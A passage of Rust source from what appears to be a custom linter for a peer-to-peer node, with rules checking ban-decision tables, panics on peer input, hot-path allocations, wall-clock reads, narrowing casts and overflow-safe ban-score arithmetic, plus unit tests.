                    &rules_sf.path,
                    row.line,
                    BAN_EXHAUSTIVE,
                    format!(
                        "unknown ban decision `{d}` for \"{}\" (expected one of {:?})",
                        row.command, DECISION_NAMES
                    ),
                ));
            }
        }
    }

    // Every command needs a row…
    for cmd in &commands {
        if !rows.iter().any(|r| &r.command == cmd) {
            out.push(Finding::new(
                &rules_sf.path,
                table_line,
                BAN_EXHAUSTIVE,
                format!(
                    "no `BAN_DECISIONS` row for \"{cmd}\": every wire message type needs an \
                     explicit per-version ban decision (Table I)"
                ),
            ));
        }
    }

    // …a tier weight for the reputation ladder…
    tier_weights(&commands, rules_sf, out);

    // …and a dispatch arm in the node.
    let dispatched = message_variants(node_sf);
    for cmd in &commands {
        if !dispatched.contains(cmd) {
            out.push(Finding::new(
                &node_sf.path,
                1,
                BAN_EXHAUSTIVE,
                format!(
                    "no `Message::…` arm for \"{cmd}\" in the node dispatch; unhandled message \
                     types silently bypass ban tracking"
                ),
            ));
        }
    }

    // ALL_COMMANDS itself must stay non-trivial; an emptied array would make
    // every check above pass vacuously.
    if commands.is_empty() {
        out.push(Finding::new(
            &message_sf.path,
            cmd_line,
            BAN_EXHAUSTIVE,
            "`ALL_COMMANDS` is empty",
        ));
    }
}

/// Finds `NAME … = [ "a", "b", … ]` outside test code and returns the
/// string contents plus the line of the opening bracket.
fn extract_str_array(sf: &SourceFile, name: &str) -> Option<(Vec<String>, u32)> {
    let open = find_array_start(sf, name)?;
    let toks = &sf.tokens;
    let mut depth = 1usize;
    let mut items = Vec::new();
    let mut i = open + 1;
    while i < toks.len() && depth > 0 {
        match (toks[i].kind, toks[i].text.as_str()) {
            (TokKind::Punct, "[") => depth += 1,
            (TokKind::Punct, "]") => depth -= 1,
            (TokKind::Str, s) => items.push(s.to_owned()),
            _ => {}
        }
        i += 1;
    }
    Some((items, sf.tokens[open].line))
}

/// Cross-checks `TIER_WEIGHTS` against `ALL_COMMANDS`: the table must
/// exist, carry exactly one known weight class per command, and cover
/// every command with no duplicates or strays.
fn tier_weights(commands: &[String], rules_sf: &SourceFile, out: &mut Vec<Finding>) {
    let Some((rows, table_line)) = extract_rows(rules_sf, "TIER_WEIGHTS", "TierWeight") else {
        out.push(Finding::new(
            &rules_sf.path,
            1,
            BAN_EXHAUSTIVE,
            "could not locate the `TIER_WEIGHTS` table; every wire command needs an explicit \
             reputation weight class",
        ));
        return;
    };
    let mut seen: Vec<&str> = Vec::new();
    for row in &rows {
        if !commands.contains(&row.command) {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!(
                    "`TIER_WEIGHTS` row for unknown command \"{}\" (not in ALL_COMMANDS)",
                    row.command
                ),
            ));
        }
        if seen.contains(&row.command.as_str()) {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!("duplicate `TIER_WEIGHTS` row for \"{}\"", row.command),
            ));
        }
        seen.push(&row.command);
        if row.decisions.len() != 1 {
            out.push(Finding::new(
                &rules_sf.path,
                row.line,
                BAN_EXHAUSTIVE,
                format!(
                    "`TIER_WEIGHTS` row for \"{}\" has {} weight classes; need exactly 1",
                    row.command,
                    row.decisions.len()
                ),
            ));
        }
        for d in &row.decisions {
            if !WEIGHT_NAMES.contains(&d.as_str()) {
                out.push(Finding::new(
                    &rules_sf.path,
                    row.line,
                    BAN_EXHAUSTIVE,
                    format!(
                        "unknown tier weight `{d}` for \"{}\" (expected one of {:?})",
                        row.command, WEIGHT_NAMES
                    ),
                ));
            }
        }
    }
    for cmd in commands {
        if !rows.iter().any(|r| &r.command == cmd) {
            out.push(Finding::new(
                &rules_sf.path,
                table_line,
                BAN_EXHAUSTIVE,
                format!(
                    "no `TIER_WEIGHTS` row for \"{cmd}\": every wire message type needs an \
                     explicit reputation weight class"
                ),
            ));
        }
    }
}

/// Finds `NAME … = [ ("cmd", [D, D, D]), … ]` and parses the rows.
fn extract_decision_rows(sf: &SourceFile) -> Option<(Vec<DecisionRow>, u32)> {
    extract_rows(sf, "BAN_DECISIONS", "BanDecision")
}

/// Finds `NAME … = [ ("cmd", Type::Variant…), … ]` and parses the rows,
/// collecting every identifier except `type_ident` as a decision.
fn extract_rows(
    sf: &SourceFile,
    name: &str,
    type_ident: &str,
) -> Option<(Vec<DecisionRow>, u32)> {
    let open = find_array_start(sf, name)?;
    let toks = &sf.tokens;
    let table_line = toks[open].line;
    let mut rows = Vec::new();
    let mut depth = 1usize;
    let mut i = open + 1;
    let mut cur: Option<DecisionRow> = None;
    while i < toks.len() && depth > 0 {
        let t = &toks[i];
        match (t.kind, t.text.as_str()) {
            (TokKind::Punct, "[") => depth += 1,
            (TokKind::Punct, "]") => depth -= 1,
            (TokKind::Punct, "(") => {
                cur = Some(DecisionRow {
                    command: String::new(),
                    decisions: Vec::new(),
                    line: t.line,
                });
            }
            (TokKind::Punct, ")") => {
                if let Some(row) = cur.take() {
                    rows.push(row);
                }
            }
            (TokKind::Str, s) => {
                if let Some(row) = cur.as_mut() {
                    row.command = s.to_owned();
                }
            }
            (TokKind::Ident, id) if id != type_ident => {
                if let Some(row) = cur.as_mut() {
                    row.decisions.push(id.to_owned());
                }
            }
            _ => {}
        }
        i += 1;
    }
    Some((rows, table_line))
}

/// Index of the `[` in `NAME … = [`, skipping test code and bare mentions.
fn find_array_start(sf: &SourceFile, name: &str) -> Option<usize> {
    let toks = &sf.tokens;
    for i in 0..toks.len() {
        if toks[i].kind != TokKind::Ident || toks[i].text != name || sf.in_test(toks[i].line) {
            continue;
        }
        // Look ahead for `= [` before the item-terminating `;` — the `;`
        // inside a `[T; N]` type annotation doesn't count.
        let mut j = i + 1;
        let mut depth = 0usize;
        while j + 1 < toks.len() {
            match toks[j].text.as_str() {
                "[" => depth += 1,
                "]" => depth = depth.saturating_sub(1),
                ";" if depth == 0 => break,
                "=" if depth == 0 && toks[j + 1].text == "[" => return Some(j + 1),
                _ => {}
            }
            j += 1;
        }
    }
    None
}

/// The set of `Message::Variant` names dispatched in non-test code,
/// lowercased to command strings.
fn message_variants(sf: &SourceFile) -> Vec<String> {
    let toks = &sf.tokens;
    let mut out: Vec<String> = Vec::new();
    for i in 0..toks.len() {
        if toks[i].kind == TokKind::Ident
            && toks[i].text == "Message"
            && !sf.in_test(toks[i].line)
            && toks.get(i + 1).map(|t| t.text.as_str()) == Some(":")
            && toks.get(i + 2).map(|t| t.text.as_str()) == Some(":")
        {
            if let Some(v) = toks.get(i + 3) {
                if v.kind == TokKind::Ident
                    && v.text.starts_with(|c: char| c.is_ascii_uppercase())
                {
                    let cmd = v.text.to_lowercase();
                    if !out.contains(&cmd) {
                        out.push(cmd);
                    }
                }
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    const MESSAGE_SRC: &str = r#"
pub const ALL_COMMANDS: [&str; 3] = ["version", "ping", "tx"];
"#;

    const GOOD_WEIGHTS: &str = r#"("version", TierWeight::Moderate),
("ping", TierWeight::Neutral),
("tx", TierWeight::Severe),"#;

    fn rules_src(rows: &str) -> String {
        rules_src_with(rows, GOOD_WEIGHTS)
    }

    fn rules_src_with(rows: &str, weights: &str) -> String {
        format!(
            "pub const BAN_DECISIONS: [(&str, [BanDecision; 3]); 3] = [\n{rows}\n];\n\
             pub const TIER_WEIGHTS: [(&str, TierWeight); 3] = [\n{weights}\n];\n"
        )
    }

    fn check(rules: &str, node: &str) -> Vec<Finding> {
        let msf = lex("crates/wire/src/message.rs", MESSAGE_SRC);
        let rsf = lex("crates/node/src/banscore/rules.rs", rules);
        let nsf = lex("crates/node/src/node.rs", node);
        let mut out = Vec::new();
        ban_exhaustive(&msf, &rsf, &nsf, &mut out);
        out
    }

    const GOOD_ROWS: &str = r#"("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
("tx", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),"#;

    const GOOD_NODE: &str =
        "fn h(m: Message) { match m { Message::Version(_) => {}, Message::Ping(_) => {}, Message::Tx(_) => {} } }";

    #[test]
    fn clean_when_all_three_agree() {
        let f = check(&rules_src(GOOD_ROWS), GOOD_NODE);
        assert!(f.is_empty(), "{f:?}");
    }

    #[test]
    fn missing_row_flagged() {
        let rows = r#"("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),"#;
        let f = check(&rules_src(rows), GOOD_NODE);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].message.contains("no `BAN_DECISIONS` row for \"tx\""));
    }

    #[test]
    fn wrong_arity_and_unknown_decision_flagged() {
        let rows = r#"("version", [BanDecision::Penalize, BanDecision::Tolerate]),
("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Maybe]),
("tx", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Penalize]),"#;
        let f = check(&rules_src(rows), GOOD_NODE);
        assert_eq!(f.len(), 2, "{f:?}");
        assert!(f.iter().any(|x| x.message.contains("has 2 decisions")));
        assert!(f.iter().any(|x| x.message.contains("unknown ban decision `Maybe`")));
    }

    #[test]
    fn duplicate_and_unknown_command_flagged() {
        let rows = r#"("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
("version", [BanDecision::Penalize, BanDecision::Penalize, BanDecision::Tolerate]),
("ping", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),
("bogus", [BanDecision::Tolerate, BanDecision::Tolerate, BanDecision::Tolerate]),"#;
        let f = check(&rules_src(rows), GOOD_NODE);
        assert!(f.iter().any(|x| x.message.contains("duplicate")), "{f:?}");
        assert!(f.iter().any(|x| x.message.contains("unknown command \"bogus\"")));
        // "tx" row is still missing.
        assert!(f.iter().any(|x| x.message.contains("\"tx\"")));
    }

    #[test]
    fn missing_dispatch_arm_flagged() {
        let node = "fn h(m: Message) { match m { Message::Version(_) => {}, Message::Ping(_) => {}, _ => {} } }";
        let f = check(&rules_src(GOOD_ROWS), node);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].message.contains("no `Message::…` arm for \"tx\""));
    }

    #[test]
    fn test_code_dispatch_does_not_count() {
        let node = "fn h(m: Message) { match m { Message::Version(_) => {}, Message::Ping(_) => {} } }\n#[cfg(test)]\nmod tests { fn t() { let _ = Message::Tx(x); } }\n";
        let f = check(&rules_src(GOOD_ROWS), node);
        assert_eq!(f.len(), 1, "{f:?}");
    }

    #[test]
    fn missing_weight_row_flagged() {
        let weights = r#"("version", TierWeight::Moderate),
("ping", TierWeight::Neutral),"#;
        let f = check(&rules_src_with(GOOD_ROWS, weights), GOOD_NODE);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].message.contains("no `TIER_WEIGHTS` row for \"tx\""));
    }

    #[test]
    fn missing_weight_table_flagged() {
        let rules =
            format!("pub const BAN_DECISIONS: [(&str, [BanDecision; 3]); 3] = [\n{GOOD_ROWS}\n];\n");
        let f = check(&rules, GOOD_NODE);
        assert_eq!(f.len(), 1, "{f:?}");
        assert!(f[0].message.contains("could not locate the `TIER_WEIGHTS` table"));
    }

    #[test]
    fn bad_weight_rows_flagged() {
        let weights = r#"("version", TierWeight::Harsh),
("version", TierWeight::Moderate),
("ping", TierWeight::Neutral),
("tx", TierWeight::Severe),
("bogus", TierWeight::Light),"#;
        let f = check(&rules_src_with(GOOD_ROWS, weights), GOOD_NODE);
        assert!(f.iter().any(|x| x.message.contains("unknown tier weight `Harsh`")), "{f:?}");
        assert!(f.iter().any(|x| x.message.contains("duplicate `TIER_WEIGHTS` row for \"version\"")));
        assert!(f
            .iter()
            .any(|x| x.message.contains("`TIER_WEIGHTS` row for unknown command \"bogus\"")));
    }

    #[test]
    fn missing_tables_reported() {
        let f = check("fn nothing() {}", GOOD_NODE);
        assert!(f[0].message.contains("BAN_DECISIONS"));
        let msf = lex("m.rs", "fn nothing() {}");
        let rsf = lex("r.rs", &rules_src(GOOD_ROWS));
        let nsf = lex("n.rs", GOOD_NODE);
        let mut out = Vec::new();
        ban_exhaustive(&msf, &rsf, &nsf, &mut out);
        assert!(out[0].message.contains("ALL_COMMANDS"));
    }
}
