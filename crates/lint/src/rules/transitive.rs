//! Transitive contract scopes: `panic-path`, `hot-path-alloc` and
//! `wallclock` findings fire in any function *reachable from* a contract
//! scope root, with the call chain printed.
//!
//! The per-file rules pin the contract at its surface; these passes follow
//! the calls. A helper one file away from `recv.rs` that `.unwrap()`s peer
//! bytes is exactly as crashable as an unwrap in `recv.rs` — the old scoped
//! rules just never saw it. Conservative by construction: only unambiguous
//! call edges exist in the graph, so every chain printed here is real.
//!
//! Known limits (see DESIGN.md §16): bare-indexing detection stays
//! file-scoped (outside the peer-input files an index is usually over local
//! state, and the token walk cannot tell); ambiguous calls contribute no
//! edges, so a panic behind a name shared by several defs is not chased.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};
use crate::parse::FnItem;
use crate::rules::Workspace;
use crate::rules::alloc::HOT_PATH_ALLOC;
use crate::rules::determinism::WALLCLOCK;
use crate::rules::panics::PANIC_PATH;
use crate::scope::{self, Allowlist};
use std::collections::BTreeSet;

/// A flagged construct found inside one fn body.
struct Hit {
    line: u32,
    /// Short construct label appended to the chain (`unwrap`, `to_vec`, …).
    construct: &'static str,
    message: String,
}

/// `panic-path`, transitively: panicking constructs in any function
/// reachable from the peer-input files.
pub fn panic_path_transitive(ws: &Workspace, out: &mut Vec<Finding>) {
    let mut roots: Vec<usize> = Vec::new();
    for &rel in scope::PEER_INPUT_FILES {
        roots.extend(ws.defs_in_file(rel));
    }
    if roots.is_empty() {
        return;
    }
    let parents = ws.graph.reach(&roots, &|_| false);
    for (&d, parent) in &parents {
        if parent.is_none() {
            continue; // roots are covered by the per-file rule
        }
        let rel = ws.rel_of(d);
        if scope::is_peer_input(rel) || crate::symbols::is_test_tree(rel) {
            continue;
        }
        for hit in panic_hits(ws.sf_of(d), ws.fn_of(d)) {
            let mut chain = ws.chain_from(&parents, d);
            chain.push(hit.construct.to_owned());
            out.push(Finding::with_chain(rel, hit.line, PANIC_PATH, hit.message, chain));
        }
    }
}

/// `hot-path-alloc`, transitively: allocating constructs in any function
/// reachable from the receive-path files, stopping at the declared
/// steady-state boundaries.
pub fn hot_path_alloc_transitive(ws: &Workspace, out: &mut Vec<Finding>) {
    let mut roots: Vec<usize> = Vec::new();
    for &rel in scope::RECV_PATH_FILES {
        roots.extend(ws.defs_in_file(rel));
    }
    if roots.is_empty() {
        return;
    }
    let is_boundary =
        |d: usize| scope::HOT_PATH_BOUNDARIES.contains(&ws.fn_of(d).name.as_str());
    let parents = ws.graph.reach(&roots, &is_boundary);
    for (&d, parent) in &parents {
        if parent.is_none() || is_boundary(d) {
            continue; // roots per-file; boundary fns own their allocations
        }
        let rel = ws.rel_of(d);
        if scope::is_recv_path(rel) || crate::symbols::is_test_tree(rel) {
            continue;
        }
        for hit in alloc_hits(ws.sf_of(d), ws.fn_of(d)) {
            let mut chain = ws.chain_from(&parents, d);
            chain.push(hit.construct.to_owned());
            out.push(Finding::with_chain(rel, hit.line, HOT_PATH_ALLOC, hit.message, chain));
        }
    }
}

/// `wallclock`, transitively: a sim-deterministic function whose call chain
/// reaches a wall-clock read that the direct rule cannot see (the read sits
/// in an allowlisted measurement file, or outside the sim-deterministic
/// crates). The finding lands on the *call site* inside the sim crate — that
/// edge is the determinism leak.
pub fn wallclock_transitive(ws: &Workspace, allow: &Allowlist, out: &mut Vec<Finding>) {
    // W: defs that read the wall clock directly.
    let mut targets: Vec<usize> = Vec::new();
    for fi in 0..ws.rels.len() {
        for item in 0..ws.parsed[fi].fns.len() {
            let f = &ws.parsed[fi].fns[item];
            if f.is_test {
                continue;
            }
            if let Some(d) = ws.index.def_id(fi, item) {
                if !wallclock_hits(&ws.files[fi], f).is_empty() {
                    targets.push(d);
                }
            }
        }
    }
    if targets.is_empty() {
        return;
    }
    let target_set: BTreeSet<usize> = targets.iter().copied().collect();
    let next = ws.graph.reach_reverse(&targets);

    // An edge a → b is a leak when a lives under the determinism contract
    // (sim crate, not itself exempted) and b's chain ends at a wall-clock
    // read the direct rule does not flag there.
    let escapes = |d: usize| {
        let rel = ws.rel_of(d);
        !scope::in_sim_deterministic(rel) || allow.allows(WALLCLOCK, rel)
    };
    for fi in 0..ws.rels.len() {
        let rel = &ws.rels[fi];
        if !scope::in_sim_deterministic(rel)
            || allow.allows(WALLCLOCK, rel)
            || crate::symbols::is_test_tree(rel)
        {
            continue;
        }
        for item in 0..ws.parsed[fi].fns.len() {
            let f = &ws.parsed[fi].fns[item];
            if f.is_test {
                continue;
            }
            let Some(a) = ws.index.def_id(fi, item) else { continue };
            if target_set.contains(&a) {
                continue; // direct finding already fires here
            }
            for e in &ws.graph.edges[a] {
                if !next.contains_key(&e.callee) || !escapes(e.callee) {
                    continue;
                }
                let mut chain = vec![ws.label(a)];
                chain.extend(ws.graph.chain_to_target(&next, e.callee, &|d| ws.label(d)));
                chain.push("wallclock".to_owned());
                out.push(Finding::with_chain(
                    rel,
                    e.line,
                    WALLCLOCK,
                    format!(
                        "call into `{}` eventually reads the wall clock (allowlisted or \
                         out-of-contract at the read site); sim-deterministic output must not \
                         depend on it — thread simulator time through, or justify with \
                         `lint:allow(wallclock): <reason>` at this call",
                        ws.label(e.callee)
                    ),
                    chain,
                ));
            }
        }
    }
}

/// Panicking constructs inside `f`'s body: `.unwrap()`/`.expect(`, panic
/// macro family. Bare indexing is deliberately not chased transitively.
fn panic_hits(sf: &SourceFile, f: &FnItem) -> Vec<Hit> {
    const MACROS: &[&str] =
        &["panic", "unreachable", "todo", "unimplemented", "assert", "assert_eq", "assert_ne"];
    let toks = &sf.tokens;
    let mut hits = Vec::new();
    for i in f.body_start..=f.body_end.min(toks.len().saturating_sub(1)) {
        let t = &toks[i];
        if t.kind != TokKind::Ident || sf.in_test(t.line) {
            continue;
        }
        match t.text.as_str() {
            "unwrap" | "expect"
                if i > 0
                    && toks[i - 1].text == "."
                    && toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") =>
            {
                hits.push(Hit {
                    line: t.line,
                    construct: if t.text == "unwrap" { "unwrap" } else { "expect" },
                    message: format!(
                        "`.{}(..)` reachable from the peer-input path can panic on a crafted \
                         message; return a typed error instead",
                        t.text
                    ),
                });
            }
            m if MACROS.contains(&m)
                && toks.get(i + 1).map(|n| n.text.as_str()) == Some("!")
                && (i == 0 || toks[i - 1].text != ".") =>
            {
                hits.push(Hit {
                    line: t.line,
                    construct: "panic!",
                    message: format!(
                        "`{m}!` reachable from the peer-input path aborts the node on a crafted \
                         message; drop the message and penalize the peer instead"
                    ),
                });
            }
            _ => {}
        }
    }
    hits
}

/// Allocating/copying constructs inside `f`'s body (same set as the
/// per-file `hot-path-alloc` rule).
fn alloc_hits(sf: &SourceFile, f: &FnItem) -> Vec<Hit> {
    let toks = &sf.tokens;
    let mut hits = Vec::new();
    for i in f.body_start..=f.body_end.min(toks.len().saturating_sub(1)) {
        let t = &toks[i];
        if t.kind != TokKind::Ident || sf.in_test(t.line) {
            continue;
        }
        let (construct, what) = match t.text.as_str() {
            "to_vec"
                if i > 0
                    && toks[i - 1].text == "."
                    && toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") =>
            {
                ("to_vec", "`.to_vec()` copies the buffer")
            }
            "copy_from_slice" if toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") => {
                ("copy_from_slice", "`copy_from_slice(..)` copies the payload")
            }
            "Vec"
                if toks.get(i + 1).map(|n| n.text.as_str()) == Some(":")
                    && toks.get(i + 2).map(|n| n.text.as_str()) == Some(":")
                    && toks.get(i + 3).map(|n| n.text.as_str()) == Some("new") =>
            {
                ("Vec::new", "`Vec::new()` allocates per call")
            }
            _ => continue,
        };
        hits.push(Hit {
            line: t.line,
            construct,
            message: format!(
                "{what} in a function called from the steady-state receive path; use the \
                 cursor buffer / refcounted slices, or justify with \
                 `lint:allow(hot-path-alloc): <reason>`"
            ),
        });
    }
    hits
}

/// Direct wall-clock reads inside `f`'s body (same set as the per-file
/// `wallclock` rule).
fn wallclock_hits(sf: &SourceFile, f: &FnItem) -> Vec<Hit> {
    let toks = &sf.tokens;
    let mut hits = Vec::new();
    for i in f.body_start..=f.body_end.min(toks.len().saturating_sub(1)) {
        let t = &toks[i];
        if t.kind != TokKind::Ident || sf.in_test(t.line) {
            continue;
        }
        let flagged = match t.text.as_str() {
            "Instant" | "SystemTime" => {
                toks.get(i + 1).map(|a| a.text.as_str()) == Some(":")
                    && toks.get(i + 2).map(|a| a.text.as_str()) == Some(":")
                    && toks.get(i + 3).map(|a| a.text.as_str()) == Some("now")
            }
            "RandomState" => true,
            _ => false,
        };
        if flagged {
            hits.push(Hit { line: t.line, construct: "wallclock", message: String::new() });
        }
    }
    hits
}
