//! `narrowing-cast`: flag `as u8` / `as u16` / `as u32` in wire parsing.
//!
//! A silent truncation in a length or count field is exactly how a crafted
//! message smuggles an inconsistent size past validation (the paper's
//! oversize/overflow probes). Narrowing must go through `try_from` with an
//! explicit saturation/error decision, or carry a
//! `lint:allow(narrowing-cast): <reason>` for range-proven cases.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};

/// Rule name for narrowing-cast findings.
pub const NARROWING_CAST: &str = "narrowing-cast";

/// Flags narrowing `as` casts to small unsigned integers.
pub fn narrowing_cast(sf: &SourceFile, out: &mut Vec<Finding>) {
    let toks = &sf.tokens;
    for (i, t) in toks.iter().enumerate() {
        if t.kind != TokKind::Ident || t.text != "as" {
            continue;
        }
        let Some(ty) = toks.get(i + 1) else { continue };
        if ty.kind != TokKind::Ident || !matches!(ty.text.as_str(), "u8" | "u16" | "u32") {
            continue;
        }
        if sf.in_test(t.line) {
            continue;
        }
        out.push(Finding::new(
            &sf.path,
            t.line,
            NARROWING_CAST,
            format!(
                "`as {}` silently truncates; use `{}::try_from(..)` with an explicit policy, \
                 or justify a range-proven cast with `lint:allow(narrowing-cast): <reason>`",
                ty.text, ty.text
            ),
        ));
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn run(src: &str) -> Vec<Finding> {
        let sf = lex("t.rs", src);
        let mut out = Vec::new();
        narrowing_cast(&sf, &mut out);
        out
    }

    #[test]
    fn narrowing_flagged() {
        let f = run("let a = n as u8;\nlet b = n as u16;\nlet c = n as u32;\n");
        assert_eq!(f.len(), 3);
    }

    #[test]
    fn widening_not_flagged() {
        let f = run("let a = n as u64;\nlet b = n as usize;\nlet c = x as f64;\n");
        assert!(f.is_empty());
    }

    #[test]
    fn marker_left_to_driver() {
        // Marker suppression moved to the driver (stale-exemption audit
        // needs to see which markers fire); the rule reports regardless.
        let f = run("// lint:allow(narrowing-cast): value matched to < 0xfd above\nlet a = n as u8;\n");
        assert_eq!(f.len(), 1);
    }
}
