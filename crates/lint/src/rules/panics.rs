//! `panic-path`: no panicking constructs in code that handles
//! peer-controlled bytes.
//!
//! The paper's BM-DoS analysis assumes a malformed payload costs the peer a
//! misbehavior penalty; a panic in the decode or handler path instead crashes
//! the victim *before* tracking runs, inverting the defense. Flagged here:
//! `.unwrap()` / `.expect(..)`, the panic macro family, and bare slice/array
//! indexing. Structurally-bounded indexing may be justified with
//! `lint:allow(panic-path): <reason>`.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind};

/// Rule name for panic-path findings.
pub const PANIC_PATH: &str = "panic-path";

/// Macros that unconditionally (or on peer-influenced conditions) panic.
const PANIC_MACROS: &[&str] = &[
    "panic",
    "unreachable",
    "todo",
    "unimplemented",
    "assert",
    "assert_eq",
    "assert_ne",
];

/// Keywords after which `[` opens an array literal/type, not an index.
const NON_INDEX_KEYWORDS: &[&str] = &[
    "let", "mut", "in", "return", "if", "else", "match", "move", "ref", "const", "static", "as",
    "break", "continue", "loop", "while", "for", "where", "impl", "fn", "pub", "use", "crate",
    "super", "mod", "struct", "enum", "trait", "type", "dyn", "unsafe", "async", "await", "box",
    "yield", "true", "false",
];

/// Flags panicking constructs on the peer-input path.
pub fn panic_path(sf: &SourceFile, out: &mut Vec<Finding>) {
    let toks = &sf.tokens;
    for (i, t) in toks.iter().enumerate() {
        let msg: Option<String> = match (t.kind, t.text.as_str()) {
            (TokKind::Ident, "unwrap" | "expect")
                if i > 0
                    && toks[i - 1].text == "."
                    && toks.get(i + 1).map(|n| n.text.as_str()) == Some("(") =>
            {
                Some(format!(
                    "`.{}(..)` can panic on peer input; return a typed error (e.g. DecodeError) instead",
                    t.text
                ))
            }
            (TokKind::Ident, m)
                if PANIC_MACROS.contains(&m)
                    && toks.get(i + 1).map(|n| n.text.as_str()) == Some("!")
                    && (i == 0 || toks[i - 1].text != ".") =>
            {
                Some(format!(
                    "`{m}!` aborts the node on peer input; drop the message and penalize the peer instead"
                ))
            }
            (TokKind::Punct, "[") if i > 0 && is_indexable(toks, i - 1) => Some(
                "bare indexing can panic on peer input; use `.get(..)`/`split_at` bounds checks, \
                 or justify a structurally-bounded index with `lint:allow(panic-path): <reason>`"
                    .to_owned(),
            ),
            _ => None,
        };
        let Some(message) = msg else { continue };
        // Marker suppression happens in the driver (which tracks marker
        // usage for the stale-exemption audit); only test code is skipped
        // here.
        if !sf.in_test(t.line) {
            out.push(Finding::new(&sf.path, t.line, PANIC_PATH, message));
        }
    }
}

/// Whether the token at `i` can be the base expression of an index
/// (identifier that is not a keyword, a closing bracket, `?`, or a number).
fn is_indexable(toks: &[crate::lexer::Token], i: usize) -> bool {
    let t = &toks[i];
    match t.kind {
        TokKind::Ident => !NON_INDEX_KEYWORDS.contains(&t.text.as_str()),
        TokKind::Punct => matches!(t.text.as_str(), ")" | "]" | "?"),
        TokKind::Num => true,
        _ => false,
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::lexer::lex;

    fn run(src: &str) -> Vec<Finding> {
        let sf = lex("t.rs", src);
        let mut out = Vec::new();
        panic_path(&sf, &mut out);
        out
    }

    #[test]
    fn unwrap_and_expect_flagged() {
        let f = run("let a = x.unwrap();\nlet b = y.expect(\"msg\");\n");
        assert_eq!(f.len(), 2);
        assert_eq!(f[0].line, 1);
        assert_eq!(f[1].line, 2);
    }

    #[test]
    fn unwrap_or_not_flagged() {
        let f = run("let a = x.unwrap_or(0);\nlet b = y.unwrap_or_else(|| 1);\nlet c = z.expect_err(\"e\");\n");
        assert!(f.is_empty());
    }

    #[test]
    fn panic_macros_flagged() {
        let f = run("panic!(\"boom\");\nunreachable!();\nassert!(ok);\n");
        assert_eq!(f.len(), 3);
    }

    #[test]
    fn write_macro_not_flagged() {
        let f = run("write!(f, \"x\")?;\nvec![1, 2];\n");
        assert!(f.is_empty());
    }

    #[test]
    fn indexing_flagged_array_literals_not() {
        let f = run("let a = buf[i];\nlet b: [u8; 4] = [0; 4];\nlet c = &mut [1, 2];\n");
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 1);
    }

    #[test]
    fn chained_and_call_result_indexing_flagged() {
        let f = run("let a = f()[0];\nlet b = m[k][j];\n");
        assert_eq!(f.len(), 3);
    }

    #[test]
    fn attribute_and_slice_pattern_not_flagged() {
        let f = run("#[derive(Clone)]\nstruct S;\nfn g(x: &[u8]) {}\n");
        assert!(f.is_empty());
    }

    #[test]
    fn test_code_suppressed_markers_left_to_driver() {
        // Marker suppression (and its stale-audit bookkeeping) lives in the
        // driver now; the rule itself only skips test code.
        let f = run(
            "// lint:allow(panic-path): index bounded by the fixed 80-byte header\nlet a = h[79];\n#[test]\nfn t() { x.unwrap(); }\n",
        );
        assert_eq!(f.len(), 1);
        assert_eq!(f[0].line, 2);
    }
}
