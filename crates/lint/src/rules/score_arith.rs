//! `score-arith`: ban-score/credit/sim-time arithmetic in
//! `crates/node/src/banscore/` must be explicit about overflow.
//!
//! PR 9 fixed an integer-overflow bug class in `tracker.rs` by hand
//! (`score + points` wrapping past `i64::MAX` under a crafted flood); this
//! rule pins the fix as a contract. Flagged: compound `+=`/`-=`/`*=` whose
//! left-hand side is a score field, and plain assignments to a score field
//! whose right-hand side contains bare binary `+`/`-`/`*`. Use
//! `saturating_*`/`checked_*` instead, or justify clamped/decaying float
//! arithmetic with `lint:allow(score-arith): <reason>`.

use crate::findings::Finding;
use crate::lexer::{SourceFile, TokKind, Token};
use crate::scope::is_score_field;

/// Rule name for score-arithmetic findings.
pub const SCORE_ARITH: &str = "score-arith";

/// Flags bare arithmetic on score/sim-time fields.
pub fn score_arith(sf: &SourceFile, out: &mut Vec<Finding>) {
    let toks = &sf.tokens;
    for i in 0..toks.len() {
        let t = &toks[i];
        if t.kind != TokKind::Punct || sf.in_test(t.line) {
            continue;
        }
        match t.text.as_str() {
            // Compound assignment: `field += x`, `-=`, `*=`.
            op @ ("+" | "-" | "*")
                if toks.get(i + 1).map(|n| n.text.as_str()) == Some("=")
                    && toks.get(i + 2).map(|n| n.text.as_str()) != Some("=") =>
            {
                let Some(prev) = i.checked_sub(1).map(|p| &toks[p]) else { continue };
                if prev.kind == TokKind::Ident && is_score_field(&prev.text) {
                    out.push(Finding::new(
                        &sf.path,
                        t.line,
                        SCORE_ARITH,
                        arith_message(op, &prev.text),
                    ));
                }
            }
            // Plain assignment: `field = <expr with bare + - *>;`.
            "=" if is_plain_assign(toks, i) => {
                let Some(prev) = i.checked_sub(1).map(|p| &toks[p]) else { continue };
                if prev.kind != TokKind::Ident || !is_score_field(&prev.text) {
                    continue;
                }
                if let Some(op) = bare_arith_in_rhs(toks, i + 1) {
                    // Anchor at the assignment so a marker on (or above) the
                    // statement head covers a multi-line right-hand side.
